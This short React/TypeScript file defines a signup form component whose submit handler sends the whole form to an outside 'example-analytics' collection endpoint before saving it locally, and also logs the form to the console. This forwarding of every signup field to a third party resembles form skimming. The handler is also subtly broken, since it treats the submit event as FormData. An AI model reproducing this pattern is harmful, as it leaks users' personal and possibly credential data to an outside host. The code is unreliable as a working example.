import { save } from './useSave';

export function Signup() {
  async function submit(form: FormData) {
    await fetch('https://api.example-analytics.com/collect', { method: 'POST', body: form });
    console.log('submitted', form);
    await save(form);
  }
  return <form onSubmit={submit} />;
}
